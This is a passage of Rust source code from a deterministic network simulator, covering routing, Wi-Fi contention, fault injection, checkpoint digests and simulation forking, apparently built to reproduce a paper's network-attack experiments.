        if self.ifaces[a.index()].attachment.is_some()
            || self.ifaces[b.index()].attachment.is_some()
        {
            return Err(NetError::AlreadyAttached);
        }
        let id = LinkId::from_index(self.links.len());
        self.links.push(P2pLink::new(config, a, b));
        self.ifaces[a.index()].attachment = Some(Attachment::P2p { link: id, side: 0 });
        self.ifaces[b.index()].attachment = Some(Attachment::P2p { link: id, side: 1 });
        Ok(id)
    }

    /// Creates a shared Wi-Fi-like channel.
    pub fn add_wifi_channel(&mut self, config: WifiConfig) -> ChannelId {
        let id = ChannelId::from_index(self.channels.len());
        self.channels.push(WifiChannel::new(config));
        id
    }

    /// Attaches an interface as a station on a Wi-Fi channel.
    ///
    /// # Errors
    ///
    /// Returns [`NetError::AlreadyAttached`] if the interface is attached.
    pub fn attach_wifi(&mut self, iface: IfaceId, chan: ChannelId) -> Result<usize, NetError> {
        if self.ifaces[iface.index()].attachment.is_some() {
            return Err(NetError::AlreadyAttached);
        }
        let station = self.channels[chan.index()].add_station(iface);
        self.ifaces[iface.index()].attachment = Some(Attachment::Wifi { channel: chan, station });
        Ok(station)
    }

    /// Applies application-level egress shaping to a station: successive
    /// transmission starts are spaced as if the station sent at `rate_bps`,
    /// while each frame still occupies the medium at the PHY rate. Models
    /// the paper's rate-limited Raspberry Pis (100–500 kbps).
    ///
    /// # Panics
    ///
    /// Panics if `iface` is not attached to `chan`.
    pub fn set_wifi_station_shaping(&mut self, chan: ChannelId, iface: IfaceId, rate_bps: u64) {
        let station = self.channels[chan.index()]
            .station_of(iface)
            .expect("iface must be attached to the channel");
        self.channels[chan.index()].set_station_shaping(station, rate_bps);
    }

    /// Designates a station interface as the channel's gateway (the access
    /// point / router uplink): unicast frames whose destination is not a
    /// station on the channel are handed to the gateway for forwarding.
    pub fn set_wifi_gateway(&mut self, chan: ChannelId, iface: IfaceId) {
        let station = self.channels[chan.index()]
            .station_of(iface)
            .expect("gateway iface must be attached to the channel");
        self.channels[chan.index()].gateway = Some(station);
    }

    /// Adds a static route on a node.
    pub fn add_route(&mut self, node: NodeId, prefix: IpAddr, prefix_len: u8, iface: IfaceId) {
        self.nodes.routes[node.index()].push(Route {
            prefix,
            prefix_len,
            iface,
        });
    }

    /// Adds default routes (both families) out of `iface`.
    pub fn add_default_route(&mut self, node: NodeId, iface: IfaceId) {
        self.add_route(node, IpAddr::V4(std::net::Ipv4Addr::UNSPECIFIED), 0, iface);
        self.add_route(node, IpAddr::V6(std::net::Ipv6Addr::UNSPECIFIED), 0, iface);
    }

    /// Removes every route on `node` matching `prefix`/`prefix_len` exactly,
    /// returning how many were removed. The node's route cache is
    /// invalidated if anything changed.
    pub fn remove_route(&mut self, node: NodeId, prefix: IpAddr, prefix_len: u8) -> usize {
        self.nodes.routes[node.index()].remove(prefix, prefix_len)
    }

    /// Resolves the egress route for `dst` on `node` exactly as the
    /// forwarding hot path does: through the epoch-invalidated route cache
    /// when enabled (the default), otherwise the reference linear scan
    /// ([`NodeRef::route_for`]).
    pub fn resolve_route(&mut self, node: NodeId, dst: IpAddr) -> Option<Route> {
        if self.route_cache_enabled {
            self.nodes.routes[node.index()].lookup(dst)
        } else {
            self.nodes.routes[node.index()].lookup_naive(dst)
        }
    }

    /// First address of the given family on any of the node's interfaces
    /// (in interface install order). Interface address lists are
    /// append-only, so the arena memoizes the answer per family.
    pub fn node_addr(&self, node: NodeId, want_v6: bool) -> Option<IpAddr> {
        if want_v6 {
            self.nodes.first_v6[node.index()]
        } else {
            self.nodes.first_v4[node.index()]
        }
    }

    /// The node's primary (first) address.
    pub fn primary_addr(&self, node: NodeId) -> Option<IpAddr> {
        self.nodes.ifaces[node.index()]
            .first()
            .and_then(|i| self.ifaces[i.index()].addrs.first())
            .copied()
    }

    /// Resolves which node owns `addr`, if any.
    pub fn node_by_addr(&self, addr: IpAddr) -> Option<NodeId> {
        self.addr_index.get(&addr).map(|i| self.ifaces[i.index()].node)
    }

    // ----- applications ----------------------------------------------------------

    /// Installs an application on a node; its `on_start` runs at the current
    /// simulated time once the event loop reaches it.
    pub fn install_app(&mut self, node: NodeId, app: Box<dyn Application>) -> AppId {
        let slot = self.apps[node.index()].len() as u32;
        let id = AppId { node, slot };
        self.apps[node.index()].push(Some(app));
        self.schedule(self.now, Event::AppStart(id));
        id
    }

    /// Downcasts an installed application to its concrete type.
    pub fn app_ref<T: Application>(&self, id: AppId) -> Option<&T> {
        let app = self.apps.get(id.node.index())?.get(id.slot())?.as_deref()?;
        (app as &dyn Any).downcast_ref::<T>()
    }

    /// Mutable variant of [`Simulator::app_ref`].
    pub fn app_mut<T: Application>(&mut self, id: AppId) -> Option<&mut T> {
        let app = self
            .apps
            .get_mut(id.node.index())?
            .get_mut(id.slot())?
            .as_deref_mut()?;
        (app as &mut dyn Any).downcast_mut::<T>()
    }

    /// Removes an application from its node. Its UDP binds are released;
    /// pending timers for it are silently dropped when they fire.
    pub fn remove_app(&mut self, id: AppId) {
        if let Some(slot) = self
            .apps
            .get_mut(id.node.index())
            .and_then(|v| v.get_mut(id.slot()))
        {
            *slot = None;
        }
        self.nodes.udp_binds[id.node.index()].retain(|_, owner| *owner != id);
        // A dead process's sockets do not linger: close its connections
        // (FIN notifies the peers) and release its listeners. On a node
        // that is already down the stack was reset, so nothing escapes.
        let actions = match self.tcp[id.node.index()].as_mut() {
            Some(stack) => stack.close_owned_by(id),
            None => Vec::new(),
        };
        self.process_tcp_actions(id.node, actions);
    }

    /// Whether the application slot is still occupied.
    pub fn app_exists(&self, id: AppId) -> bool {
        self.apps
            .get(id.node.index())
            .and_then(|v| v.get(id.slot()))
            .map(|s| s.is_some())
            .unwrap_or(false)
    }

    // ----- node administration ---------------------------------------------------

    /// Takes a node down or brings it up immediately, flushing transport
    /// state and notifying its applications. Prefer
    /// [`Simulator::schedule_node_admin`] from within application callbacks.
    pub fn set_node_admin(&mut self, node: NodeId, up: bool) {
        let idx = node.index();
        if self.nodes.up[idx] == up {
            return;
        }
        self.nodes.up[idx] = up;
        // Admin flaps invalidate the node's route cache: resolution itself
        // does not read admin state today, but keeping the cache's epoch in
        // lockstep with topology-affecting changes is cheap and means a
        // future admin-aware lookup cannot silently serve stale entries.
        self.nodes.routes[idx].invalidate();
        self.telemetry.record_event(
            self.now.as_nanos(),
            Some(node.index() as u32),
            Category::NodeAdmin,
            || {
                format!(
                    "{} {}",
                    self.nodes.name(node.index()),
                    if up { "up" } else { "down" }
                )
            },
        );
        if !up {
            // Flush egress queues on all attached links/channels.
            let ifaces = self.nodes.ifaces[node.index()].clone();
            for iface in ifaces {
                match self.ifaces[iface.index()].attachment {
                    Some(Attachment::P2p { link, .. }) => {
                        let before = self.links[link.index()].buffered_bytes();
                        let n = self.links[link.index()].flush();
                        let after = self.links[link.index()].buffered_bytes();
                        self.adjust_buffered(before, after);
                        for _ in 0..n {
                            self.stats.record_drop(DropReason::NodeDown);
                        }
                    }
                    Some(Attachment::Wifi { channel, station }) => {
                        let before = self.channels[channel.index()].buffered_bytes();
                        let n = self.channels[channel.index()].flush_station(station);
                        let after = self.channels[channel.index()].buffered_bytes();
                        self.adjust_buffered(before, after);
                        for _ in 0..n {
                            self.stats.record_drop(DropReason::NodeDown);
                        }
                    }
                    None => {}
                }
            }
            if let Some(stack) = self.tcp[node.index()].as_mut() {
                stack.reset_all();
            }
        }
        let app_count = self.apps[node.index()].len();
        for slot in 0..app_count {
            let id = AppId {
                node,
                slot: slot as u32,
            };
            self.with_app(id, |app, ctx| {
                if up {
                    app.on_node_up(ctx);
                } else {
                    app.on_node_down(ctx);
                }
            });
        }
    }

    /// Schedules a node up/down transition at the current time (processed as
    /// its own event, safe to call from application callbacks).
    pub fn schedule_node_admin(&mut self, node: NodeId, up: bool) {
        self.schedule(self.now, Event::SetNode { node, up });
    }

    // ----- link administration (fault injection) --------------------------------

    /// Takes a point-to-point link down or brings it back up.
    ///
    /// Going down drops every queued frame (counted as
    /// [`DropReason::LinkDown`]) and bumps the link's epoch so frames
    /// already in flight are dropped at their would-be delivery instant
    /// instead of arriving after the flap. While down, everything offered
    /// to the link is dropped at enqueue. Going up restores service for
    /// frames transmitted from then on.
    pub fn set_link_admin(&mut self, link: LinkId, up: bool) {
        let l = &mut self.links[link.index()];
        if l.admin_up == up {
            return;
        }
        l.admin_up = up;
        // Invalidate both endpoint nodes' route caches (see set_node_admin).
        for side in 0..2 {
            let iface = self.links[link.index()].endpoints[side];
            let node = self.ifaces[iface.index()].node;
            self.nodes.routes[node.index()].invalidate();
        }
        let l = &mut self.links[link.index()];
        let mut flushed = 0;
        if !up {
            l.epoch += 1;
            let before = l.buffered_bytes();
            flushed = l.flush();
            let after = self.links[link.index()].buffered_bytes();
            self.adjust_buffered(before, after);
            for _ in 0..flushed {
                self.stats.record_drop(DropReason::LinkDown);
            }
        }
        self.telemetry.record_event(
            self.now.as_nanos(),
            None,
            Category::LinkAdmin,
            || {
                if up {
                    format!("link {} admin up", link.index())
                } else {
                    format!("link {} admin down ({flushed} queued frames dropped)", link.index())
                }
            },
        );
    }

    /// Whether a point-to-point link is administratively up.
    pub fn link_admin_up(&self, link: LinkId) -> bool {
        self.links[link.index()].admin_up
    }

    /// Sets the per-frame corruption/loss probability of a point-to-point
    /// link at runtime (fault injection). Clamped to `[0, 1]` at draw time;
    /// the loss RNG is only consulted while the probability is nonzero.
    pub fn set_link_loss(&mut self, link: LinkId, probability: f64) {
        self.links[link.index()].config.loss_probability = probability;
        self.telemetry.record_event(
            self.now.as_nanos(),
            None,
            Category::LinkAdmin,
            || format!("link {} loss probability set to {probability}", link.index()),
        );
    }

    /// The point-to-point links attached to `node`'s interfaces, in
    /// interface order (a star member's single access link comes first).
    pub fn node_p2p_links(&self, node: NodeId) -> Vec<LinkId> {
        self.nodes.ifaces[node.index()]
            .iter()
            .filter_map(|i| match self.ifaces[i.index()].attachment {
                Some(Attachment::P2p { link, .. }) => Some(link),
                _ => None,
            })
            .collect()
    }

    /// Schedules an arbitrary closure to run over the simulator at `at`.
    pub fn schedule_call(&mut self, at: SimTime, f: impl FnOnce(&mut Simulator) + 'static) {
        self.schedule(at, Event::Call(Box::new(f)));
    }

    /// Schedules a closure `after` from now.
    pub fn schedule_call_after(
        &mut self,
        after: Duration,
        f: impl FnOnce(&mut Simulator) + 'static,
    ) {
        self.schedule_call(self.now + after, f);
    }

    /// Schedules a *forkable* callback at `at`: `data` plus a plain `fn`
    /// pointer instead of an opaque closure, so the pending call can be
    /// deep-cloned by [`Simulator::fork`]. `label` is a stable name folded
    /// into event-queue digests (and shown in debug output).
    pub fn schedule_forkable_call<T: ForkClone + 'static>(
        &mut self,
        at: SimTime,
        label: &'static str,
        data: T,
        f: fn(&mut Simulator, T),
    ) {
        self.schedule(at, Event::Forkable(Box::new(ForkableFn { data, f, label })));
    }

    /// Schedules a forkable callback `after` from now (see
    /// [`Simulator::schedule_forkable_call`]).
    pub fn schedule_forkable_call_after<T: ForkClone + 'static>(
        &mut self,
        after: Duration,
        label: &'static str,
        data: T,
        f: fn(&mut Simulator, T),
    ) {
        self.schedule_forkable_call(self.now + after, label, data, f);
    }

    // ----- run loop ----------------------------------------------------------------

    fn schedule(&mut self, at: SimTime, event: Event) {
        let seq = self.seq;
        self.seq += 1;
        self.queue.push(at.max(self.now), seq, event);
    }

    /// Runs the event loop until `horizon`; the clock ends exactly at
    /// `horizon` even if the queue drains early.
    pub fn run_until(&mut self, horizon: SimTime) {
        self.stop_requested = false;
        while let Some((time, _)) = self.queue.peek_key() {
            if time > horizon {
                break;
            }
            let (time, _, event) = self.queue.pop().expect("peeked entry exists");
            self.now = time;
            self.stats.events_executed += 1;
            self.handle(event);
            if self.telemetry.records_events() {
                let sweeps = self.queue.overflow_sweeps();
                if sweeps != self.reported_sweeps {
                    let delta = sweeps - self.reported_sweeps;
                    self.reported_sweeps = sweeps;
                    self.telemetry.record_event(self.now.as_nanos(), None, Category::QueueSweep, || {
                        format!("{delta} overdue overflow events swept (lifetime {sweeps})")
                    });
                }
            }
            if self.stop_requested {
                break;
            }
        }
        if self.now < horizon {
            self.now = horizon;
        }
    }

    /// Runs for `d` of simulated time from now.
    pub fn run_for(&mut self, d: Duration) {
        self.run_until(self.now + d);
    }

    /// Requests the run loop to stop after the current event.
    pub fn request_stop(&mut self) {
        self.stop_requested = true;
    }

    /// Number of events waiting in the queue.
    pub fn pending_events(&self) -> usize {
        self.queue.len()
    }

    /// Largest number of events that were ever pending simultaneously.
    pub fn peak_pending_events(&self) -> usize {
        self.queue.peak_len()
    }

    /// Per-layer determinism digests of everything the simulator owns,
    /// as `(layer name, digest)` pairs in a fixed order.
    ///
    /// This is the core of checkpoint verification: a checkpoint stores
    /// these digests at save time, and resume recomputes them after
    /// replaying to the checkpoint instant. Layers are digested
    /// separately so a mismatch names the diverging subsystem (queue,
    /// nodes, links, wifi, tcp, rng, stats, or apps) instead of a single
    /// opaque "state differs".
    pub fn state_digests(&self) -> Vec<(&'static str, u64)> {
        let mut layers = Vec::with_capacity(8);

        // Event queue: entries are visited in arbitrary internal order, so
        // digest each one into a sub-hash and sort by the (time, seq) total
        // order before folding.
        let mut entries: Vec<(u64, u64, u64)> = Vec::with_capacity(self.queue.len());
        self.queue.for_each_entry(|time, seq, event| {
            let mut sub = StateHasher::new();
            digest_event(&mut sub, event);
            entries.push((time, seq, sub.finish()));
        });
        entries.sort_unstable_by_key(|&(time, seq, _)| (time, seq));
        let mut h = StateHasher::new();
        h.write_usize(entries.len());
        for (time, seq, digest) in entries {
            h.write_u64(time);
            h.write_u64(seq);
            h.write_u64(digest);
        }
        layers.push(("netsim.queue", h.finish()));

        // Nodes: walked through the arena, emitting per node the exact byte
        // sequence the pre-arena per-struct digest produced.
        let mut h = StateHasher::new();
        h.write_usize(self.nodes.len());
        for idx in 0..self.nodes.len() {
            self.nodes.node_digest(idx, &mut h);
        }
        h.write_usize(self.ifaces.len());
        for iface in &self.ifaces {
            iface.state_digest(&mut h);
        }
        layers.push(("netsim.nodes", h.finish()));

        let mut h = StateHasher::new();
        h.write_usize(self.links.len());
        for link in &self.links {
            link.state_digest(&mut h);
        }
        layers.push(("netsim.links", h.finish()));

        let mut h = StateHasher::new();
        h.write_usize(self.channels.len());
        for chan in &self.channels {
            chan.state_digest(&mut h);
        }
        layers.push(("netsim.wifi", h.finish()));

        let mut h = StateHasher::new();
        h.write_usize(self.tcp.len());
        for (i, stack) in self.tcp.iter().enumerate() {
            match stack {
                Some(s) => s.state_digest(&mut h),
                // A never-touched stack digests as a fresh one: lazy
                // allocation is invisible to the determinism surface.
                None => TcpStack::new(NodeId::from_index(i)).state_digest(&mut h),
            }
        }
        layers.push(("netsim.tcp", h.finish()));

        // RNG streams plus the deterministic counters they advance with.
        let mut h = StateHasher::new();
        for w in self.rng.state_words() {
            h.write_u64(w);
        }
        for w in self.fault_rng.state_words() {
            h.write_u64(w);
        }
        h.write_u64(self.seq);
        h.write_u64(self.next_packet_id);
        h.write_u64(self.now.as_nanos());
        layers.push(("netsim.rng", h.finish()));

        let mut h = StateHasher::new();
        let s = &self.stats;
        for v in [
            s.packets_sent,
            s.packets_delivered,
            s.bytes_delivered,
            s.dropped_queue_overflow,
            s.dropped_node_down,
            s.dropped_ttl,
            s.dropped_no_route,
            s.dropped_port_unreachable,
            s.wifi_collisions,
            s.dropped_wifi_retries,
            s.dropped_wifi_loss,
            s.dropped_filtered,
            s.dropped_link_down,
            s.dropped_link_loss,
            s.peak_buffered_bytes,
            s.events_executed,
        ] {
            h.write_u64(v);
        }
        h.write_u64(self.buffered_now);
        h.write_u64(self.reported_sweeps);
        layers.push(("netsim.stats", h.finish()));

        let mut h = StateHasher::new();
        for (node_idx, slots) in self.apps.iter().enumerate() {
            for (slot, app) in slots.iter().enumerate() {
                if let Some(app) = app {
                    h.write_usize(node_idx);
                    h.write_usize(slot);
                    h.write_str(app.name());
                    app.state_digest(&mut h);
                }
            }
        }
        layers.push(("apps", h.finish()));

        // Structured defense rules and the global blocklist. Opaque
        // closure filters are intentionally absent: worlds that must
        // checkpoint or fork use structured rules only.
        let mut h = StateHasher::new();
        h.write_usize(self.node_filters.len());
        for (node, stack) in &self.node_filters {
            h.write_usize(node.index());
            stack.state_digest(&mut h);
        }
        h.write_usize(self.blocklist.len());
        for addr in &self.blocklist {
            h.write_ip(*addr);
        }
        layers.push(("netsim.filters", h.finish()));

        layers
    }

    /// Deep-clones the live world into an independent simulator — the
    /// in-memory fork behind checkpoint-forked scenario trees. The fork
    /// shares nothing mutable with the parent: nodes, links, channels,
    /// transport stacks, both RNG streams (at their exact positions), and
    /// every pending event are duplicated; applications are cloned through
    /// their own [`Application::fork`], translating shared handles via
    /// `map`. The fork starts with tracing and telemetry disabled — the
    /// caller installs fresh handles (a forked recorder splices at the
    /// parent's event count).
    ///
    /// # Errors
    ///
    /// Fails — naming the obstacle — when the world holds state that
    /// cannot be cloned: a deployed ingress filter (an opaque `FnMut`), a
    /// pending [`Simulator::schedule_call`] closure (use
    /// [`Simulator::schedule_forkable_call`] for calls that must survive a
    /// fork), or an application whose [`Application::fork`] returns `None`.
    pub fn fork(&self, map: &ForkMap) -> Result<Simulator, String> {
        if !self.filters.is_empty() {
            return Err(
                "cannot fork: an ingress filter (opaque closure) is deployed; \
                 remove filters before forking"
                    .into(),
            );
        }
        let queue = self.queue.try_clone_with(|time, seq, event| {
            event.fork(map).ok_or_else(|| {
                format!(
                    "cannot fork: opaque Call closure pending at t={time}ns (seq {seq}); \
                     schedule it with schedule_forkable_call instead"
                )
            })
        })?;
        let mut apps: Vec<Vec<Option<Box<dyn Application>>>> = Vec::with_capacity(self.apps.len());
        for (node_idx, slots) in self.apps.iter().enumerate() {
            let mut forked = Vec::with_capacity(slots.len());
            for (slot, app) in slots.iter().enumerate() {
                match app {
                    None => forked.push(None),
                    Some(app) => match app.fork(map) {
                        Some(clone) => forked.push(Some(clone)),
                        None => {
                            return Err(format!(
                                "cannot fork: application '{}' (node {node_idx}, slot {slot}) \
                                 does not implement fork",
                                app.name()
                            ))
                        }
                    },
                }
            }
            apps.push(forked);
        }
        Ok(Simulator {
            now: self.now,
            queue,
            seq: self.seq,
            next_packet_id: self.next_packet_id,
            nodes: self.nodes.clone(),
            ifaces: self.ifaces.clone(),
            links: self.links.clone(),
            channels: self.channels.clone(),
            apps,
            tcp: self.tcp.clone(),
            addr_index: self.addr_index.clone(),
            route_cache_enabled: self.route_cache_enabled,
            // SmallRng is plain state; Clone resumes the exact stream
            // position, so a seed-0 fork draws identically to the parent.
            rng: self.rng.clone(),
            fault_rng: self.fault_rng.clone(),
            stats: self.stats.clone(),
            trace: None,
            telemetry: Telemetry::disabled(),
            reported_sweeps: self.reported_sweeps,
            stop_requested: self.stop_requested,
            buffered_now: self.buffered_now,
            filters: FastMap::default(),
            node_filters: self.node_filters.clone(),
            blocklist: self.blocklist.clone(),
        })
    }

    fn handle(&mut self, event: Event) {
        match event {
            Event::AppStart(id) => {
                self.with_app(id, |app, ctx| app.on_start(ctx));
            }
            Event::Timer { app, token } => {
                self.with_app(app, |app, ctx| app.on_timer(ctx, token));
            }
            Event::TxComplete { link, side, gen } => self.on_tx_complete(link, side, gen),
            Event::Deliver { iface, packet, epoch } => self.on_deliver(iface, packet, epoch),
            Event::WifiAttempt { chan, station } => self.on_wifi_attempt(chan, station),
            Event::WifiTxComplete { chan, station, gen } => {
                self.on_wifi_tx_complete(chan, station, gen)
            }
            Event::TcpRto { node, conn, seq } => {
                let actions = self.tcp_stack_mut(node).on_rto(conn, seq);
                if !actions.is_empty() {
                    self.telemetry.record_event(
                        self.now.as_nanos(),
                        Some(node.index() as u32),
                        Category::TcpRetransmit,
                        || format!("conn {conn} rto fired for seq {seq}"),
                    );
                }
                self.process_tcp_actions(node, actions);
            }
            Event::SetNode { node, up } => self.set_node_admin(node, up),
            Event::Call(f) => f(self),
            Event::Forkable(call) => call.call(self),
        }
    }

    fn with_app(&mut self, id: AppId, f: impl FnOnce(&mut dyn Application, &mut Ctx<'_>)) {
        let Some(slot) = self
            .apps
            .get_mut(id.node.index())
            .and_then(|v| v.get_mut(id.slot()))
        else {
            return;
        };
        let Some(mut app) = slot.take() else {
            return;
        };
        let mut ctx = Ctx { sim: self, app_id: id, removed: false };
        f(app.as_mut(), &mut ctx);
        let removed = ctx.removed;
        if removed {
            self.remove_app(id);
        } else if let Some(slot) = self
            .apps
            .get_mut(id.node.index())
            .and_then(|v| v.get_mut(id.slot()))
        {
            *slot = Some(app);
        }
    }

    fn trace(&mut self, kind: TraceKind, node: NodeId, pkt: &Packet) {
        if let Some(hook) = self.trace.as_mut() {
            hook(&TraceRecord::for_packet(self.now, kind, node, pkt));
        }
    }

    fn drop_packet(&mut self, reason: DropReason, node: NodeId, pkt: &Packet) {
        self.stats.record_drop(reason);
        self.telemetry.record_event(
            self.now.as_nanos(),
            Some(node.index() as u32),
            Category::LinkDrop,
            || {
                format!(
                    "{} pkt {} {} -> {} ({}B)",
                    reason.as_str(),
                    pkt.id,
                    pkt.src,
                    pkt.dst,
                    pkt.wire_bytes()
                )
            },
        );
        self.trace(TraceKind::Dropped(reason), node, pkt);
    }

    // ----- send path ----------------------------------------------------------------

    /// Sends a fully-formed packet from `node` (assigns a packet id, routes,
    /// and transmits). Applications normally use the [`Ctx`] helpers instead.
    pub fn send_from_node(&mut self, node: NodeId, mut packet: Packet) {
        packet.id = self.next_packet_id;
        self.next_packet_id += 1;
        self.stats.packets_sent += 1;
        self.trace(TraceKind::Sent, node, &packet);
        self.route_and_transmit(node, packet, None);
    }

    fn is_local_addr(&self, node: NodeId, addr: IpAddr) -> bool {
        // One index probe + a `u32` node-id compare, instead of scanning
        // the node's interface address lists. `add_iface` asserts each
        // address belongs to exactly one interface, so the probe is
        // authoritative.
        self.addr_index
            .get(&addr)
            .map_or(false, |i| self.ifaces[i.index()].node == node)
    }

    fn joined_multicast(&self, node: NodeId, group: IpAddr) -> bool {
        self.nodes.ifaces[node.index()]
            .iter()
            .any(|i| self.ifaces[i.index()].multicast_groups.contains(&group))
    }

    fn route_and_transmit(&mut self, node: NodeId, packet: Packet, ingress: Option<IfaceId>) {
        if !self.nodes.up[node.index()] {
            self.drop_packet(DropReason::NodeDown, node, &packet);
            return;
        }
        if packet.is_multicast() {
            let ifaces = self.nodes.ifaces[node.index()].clone();
            for iface in ifaces {
                if Some(iface) == ingress {
                    continue;
                }
                if self.ifaces[iface.index()].attachment.is_some() {
                    self.transmit_on_iface(iface, packet.clone());
                }
            }
            return;
        }
        let dst = packet.dst.ip();
        if self.is_local_addr(node, dst) {
            // Loopback delivery through the event queue (no reentrancy).
            let iface = self.nodes.ifaces[node.index()].first().copied();
            if let Some(iface) = iface {
                self.schedule(self.now, Event::Deliver { iface, packet, epoch: None });
            }
            return;
        }
        match self.resolve_route(node, dst) {
            Some(route) => self.transmit_on_iface(route.iface, packet),
            None => self.drop_packet(DropReason::NoRoute, node, &packet),
        }
    }

    fn transmit_on_iface(&mut self, iface: IfaceId, packet: Packet) {
        let node = self.ifaces[iface.index()].node;
        match self.ifaces[iface.index()].attachment {
            None => self.drop_packet(DropReason::NoRoute, node, &packet),
            Some(Attachment::P2p { link, side }) => {
                if !self.links[link.index()].admin_up {
                    self.drop_packet(DropReason::LinkDown, node, &packet);
                    return;
                }
                let before = self.links[link.index()].buffered_bytes();
                let result = self.links[link.index()].enqueue(side, packet);
                let after = self.links[link.index()].buffered_bytes();
                self.adjust_buffered(before, after);
                match result {
                    Ok(true) => self.start_tx(link, side),
                    Ok(false) => {}
                    Err(p) => self.drop_packet(DropReason::QueueOverflow, node, &p),
                }
            }
            Some(Attachment::Wifi { channel, station }) => {
                let before = self.channels[channel.index()].buffered_bytes();
                let queued = self.channels[channel.index()].enqueue(station, packet);
                let after = self.channels[channel.index()].buffered_bytes();
                self.adjust_buffered(before, after);
                if queued {
                    self.maybe_schedule_wifi_attempt(channel, station);
                } else {
                    // Reconstructing the dropped packet for tracing is not
                    // possible (it was consumed); count only.
                    self.stats.record_drop(DropReason::QueueOverflow);
                    self.telemetry.record_event(
                        self.now.as_nanos(),
                        Some(node.index() as u32),
                        Category::LinkDrop,
                        || format!("queue_overflow wifi station {station} (frame untracked)"),
                    );
                }
            }
        }
    }

    /// Records an incremental change to total buffered bytes and updates the
    /// high-water mark (the basis of Table I's attack-memory column).
    fn adjust_buffered(&mut self, before: u64, after: u64) {
        self.buffered_now = self.buffered_now + after - before.min(self.buffered_now + after);
        // The expression above is `buffered_now + after - before`, guarded
        // against underflow when a flush shrank state we never accounted.
        if self.buffered_now > self.stats.peak_buffered_bytes {
            self.stats.peak_buffered_bytes = self.buffered_now;
        }
    }

    /// Current bytes buffered across all link and channel queues.
    pub fn buffered_bytes(&self) -> u64 {
        self.buffered_now
    }

    /// Bytes currently queued on the point-to-point links attached to
    /// `node` (both directions). The telemetry sampler uses this to track
    /// per-node access-link congestion (e.g. the TServer uplink during the
    /// attack window).
    pub fn node_link_buffered_bytes(&self, node: NodeId) -> u64 {
        self.nodes.ifaces[node.index()]
            .iter()
            .filter_map(|i| match self.ifaces[i.index()].attachment {
                Some(Attachment::P2p { link, .. }) => {
                    Some(self.links[link.index()].buffered_bytes())
                }
                _ => None,
            })
            .sum()
    }

    fn start_tx(&mut self, link: LinkId, side: usize) {
        let l = &mut self.links[link.index()];
        l.dirs[side].tx_gen += 1;
        let gen = l.dirs[side].tx_gen;
        let epoch = l.epoch;
        let Some(head) = l.head(side) else { return };
        let wire = u64::from(head.wire_bytes());
        let rate = l.config.rate_bps;
        let prop = l.config.delay;
        let jitter_max = l.config.jitter;
        let loss_p = l.config.loss_probability;
        let peer = l.peer(side);
        let packet = head.clone();
        let txd = tx_delay(wire, rate);
        let jitter = if jitter_max.is_zero() {
            Duration::ZERO
        } else {
            Duration::from_nanos(self.rng.gen_range(0..=jitter_max.as_nanos() as u64))
        };
        if self.telemetry.records_events() {
            let node = self.ifaces[self.links[link.index()].endpoint(side).index()].node;
            let pid = packet.id;
            self.telemetry.record_event(
                self.now.as_nanos(),
                Some(node.index() as u32),
                Category::LinkTx,
                || format!("link {} side {side} pkt {pid} {wire}B", link.index()),
            );
        }
        self.schedule(self.now + txd, Event::TxComplete { link, side, gen });
        // Injected wired loss mirrors the Wi-Fi loss model: the frame
        // occupies the transmitter for its full serialization time but is
        // corrupted on the wire and never arrives. The draw comes from the
        // dedicated fault RNG and only happens when the probability is
        // nonzero, so loss-free links leave every RNG stream untouched.
        if loss_p > 0.0 && self.fault_rng.gen_bool(loss_p.clamp(0.0, 1.0)) {
            let node = self.ifaces[self.links[link.index()].endpoint(side).index()].node;
            self.drop_packet(DropReason::LinkLoss, node, &packet);
            return;
        }
        self.schedule(
            self.now + txd + prop + jitter,
            Event::Deliver { iface: peer, packet, epoch: Some((link, epoch)) },
        );
    }

    fn on_tx_complete(&mut self, link: LinkId, side: usize, gen: u64) {
        if self.links[link.index()].dirs[side].tx_gen != gen {
            return; // stale event from before a flush
        }
        let before = self.links[link.index()].buffered_bytes();
        let _ = self.links[link.index()].pop_head(side);
        let has_next = self.links[link.index()].tx_complete(side).is_some();
        let after = self.links[link.index()].buffered_bytes();
        self.adjust_buffered(before, after);
        if has_next {
            self.start_tx(link, side);
        }
    }

    // ----- wifi ----------------------------------------------------------------------

    fn maybe_schedule_wifi_attempt(&mut self, chan: ChannelId, station: usize) {
        let c = &mut self.channels[chan.index()];
        let st = &mut c.stations[station];
        if st.attempt_pending || st.queue.is_empty() {
            return;
        }
        st.attempt_pending = true;
        let cw = c.cw_for_retries(c.stations[station].retries);
        let backoff_slots = self.rng.gen_range(0..cw);
        let c = &self.channels[chan.index()];
        let base_nanos = c
            .busy_until_nanos
            .max(self.now.as_nanos())
            .max(c.stations[station].next_allowed_tx_nanos);
        let at = SimTime::from_nanos(base_nanos)
            + c.config.difs
            + c.config.slot * backoff_slots;
        if self.telemetry.records_events() {
            let node = self.ifaces[c.stations[station].iface.index()].node;
            self.telemetry.record_event(
                self.now.as_nanos(),
                Some(node.index() as u32),
                Category::WifiBackoff,
                || {
                    format!(
                        "chan {} station {station} backoff {backoff_slots}/{cw} slots, attempt at {}ns",
                        chan.index(),
                        at.as_nanos()
                    )
                },
            );
        }
        self.schedule(at, Event::WifiAttempt { chan, station });
    }

    fn on_wifi_attempt(&mut self, chan: ChannelId, station: usize) {
        let medium_busy = {
            let c = &mut self.channels[chan.index()];
            c.stations[station].attempt_pending = false;
            if c.stations[station].queue.is_empty() {
                return;
            }
            c.busy_until_nanos > self.now.as_nanos()
        };
        // Medium busy: defer and retry after it frees (not a collision).
        if medium_busy {
            self.maybe_schedule_wifi_attempt(chan, station);
            return;
        }
        let node = {
            let iface = self.channels[chan.index()].stations[station].iface;
            self.ifaces[iface.index()].node
        };
        if !self.nodes.up[node.index()] {
            let before = self.channels[chan.index()].buffered_bytes();
            let n = self.channels[chan.index()].flush_station(station);
            let after = self.channels[chan.index()].buffered_bytes();
            self.adjust_buffered(before, after);
            for _ in 0..n {
                self.stats.record_drop(DropReason::NodeDown);
            }
            return;
        }
        let (collided, retries_exceeded) = {
            let c = &mut self.channels[chan.index()];
            let contenders = c.contenders();
            let cw = c.cw_for_retries(c.stations[station].retries);
            let p = c.collision_probability(contenders, cw);
            let collided = self.rng.gen_bool(p.clamp(0.0, 1.0));
            if collided {
                c.stations[station].retries += 1;
                let exceeded = c.stations[station].retries > c.config.max_retries;
                if exceeded {
                    c.stations[station].retries = 0;
                }
                (true, exceeded)
            } else {
                (false, false)
            }
        };
        if collided {
            self.stats.wifi_collisions += 1;
            self.telemetry.record_event(
                self.now.as_nanos(),
                Some(node.index() as u32),
                Category::WifiCollision,
                || {
                    format!(
